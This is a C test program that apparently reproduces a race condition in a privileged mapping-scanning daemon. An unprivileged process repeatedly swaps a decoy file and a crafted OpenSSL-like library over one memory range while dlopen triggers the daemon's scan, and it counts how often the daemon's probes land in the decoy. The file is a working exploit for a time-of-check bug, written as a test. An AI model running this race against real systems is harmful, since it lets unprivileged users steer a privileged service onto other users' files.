// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/*
 * The remap race, as an unprivileged user would run it against discovery:
 *
 *   remap WORKDIR CRAFTED DECOY TRIGGER ROUNDS
 *
 * A range R of this process maps a fresh copy of CRAFTED (a shared object that
 * looks like OpenSSL), executable. Each round loads a fresh copy of TRIGGER
 * with dlopen, so that discovery scans every mapping of this process, R among
 * them; meanwhile a clone(CLONE_VM) sibling (another process on the same
 * memory: no group stop ever holds it) maps DECOY (a file of someone else's)
 * and the crafted copy over R in turn, as fast as it can. A daemon that
 * resolves /proc/PID/map_files/R again after it examined the crafted copy puts
 * the crafted file's probes into DECOY. Round 0 does not flip: its copy is
 * attached, the test's proof that the daemon does probe what it examined.
 * Prints "flips N". Exit 0, or 1 with a message.
 */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static void *range;
static size_t len;
static int decoy_fd;
static volatile int crafted_fd = -1, flipping, quit, idle;
static volatile unsigned long flips;

static void die(const char *what)
{
	perror(what);
	exit(1);
}

/* a fresh copy of src (a new inode), named WORKDIR/<prefix><i>.so; its descriptor */
static int copy(const char *dir, const char *prefix, int i, const char *src, char *dst, size_t n)
{
	char buf[65536];
	ssize_t r;
	int in, out;

	snprintf(dst, n, "%s/%s%d.so", dir, prefix, i);
	in = open(src, O_RDONLY | O_CLOEXEC);
	out = open(dst, O_RDWR | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
	if (in < 0 || out < 0)
		die(dst);
	while ((r = read(in, buf, sizeof(buf))) > 0)
		if (write(out, buf, r) != r)
			die(dst);
	close(in);
	return out;
}

static void map_at(int fd)
{
	if (mmap(range, len, PROT_READ | PROT_EXEC, MAP_PRIVATE | MAP_FIXED, fd, 0) != range)
		die("mmap");
}

/* the sibling: decoy, crafted, decoy, ... over R while told to */
static int sibling(void *arg)
{
	(void)arg;
	while (!quit) {
		if (!flipping) {
			idle = 1;
			continue;
		}
		idle = 0;
		map_at(decoy_fd);
		map_at(crafted_fd);
		flips += 2;
	}
	return 0;
}

int main(int argc, char **argv)
{
	char path[4096], *stack;
	int rounds, i, fd;
	struct stat st;
	pid_t sib;

	if (argc != 6)
		return fprintf(stderr, "usage: remap WORKDIR CRAFTED DECOY TRIGGER ROUNDS\n"), 1;
	rounds = atoi(argv[5]);
	decoy_fd = open(argv[3], O_RDONLY | O_CLOEXEC);
	if (decoy_fd < 0 || stat(argv[2], &st))
		die("open");
	len = (st.st_size + 4095) & ~4095UL;
	range = mmap(NULL, len, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (range == MAP_FAILED)
		die("mmap");
	/* round 0: the crafted copy stays put while discovery looks */
	crafted_fd = copy(argv[1], "crafted", 0, argv[2], path, sizeof(path));
	map_at(crafted_fd);
	close(copy(argv[1], "trigger", 0, argv[4], path, sizeof(path)));
	if (!dlopen(path, RTLD_NOW | RTLD_LOCAL))
		return fprintf(stderr, "dlopen: %s\n", dlerror()), 1;
	usleep(300000);
	stack = malloc(1 << 16);
	sib = clone(sibling, stack + (1 << 16), CLONE_VM | CLONE_FILES | SIGCHLD, NULL);
	if (sib < 0)
		die("clone");
	for (i = 1; i <= rounds; i++) {
		fd = copy(argv[1], "crafted", i, argv[2], path, sizeof(path));
		map_at(fd);
		crafted_fd = fd;
		flipping = 1;
		close(copy(argv[1], "trigger", i, argv[4], path, sizeof(path)));
		if (!dlopen(path, RTLD_NOW | RTLD_LOCAL))
			return fprintf(stderr, "dlopen: %s\n", dlerror()), 1;
		usleep(30000);
		flipping = 0;
		while (!idle)
			;
	}
	quit = 1;
	if (waitpid(sib, NULL, 0) != sib)
		die("waitpid");
	printf("flips %lu\n", flips);
	return 0;
}
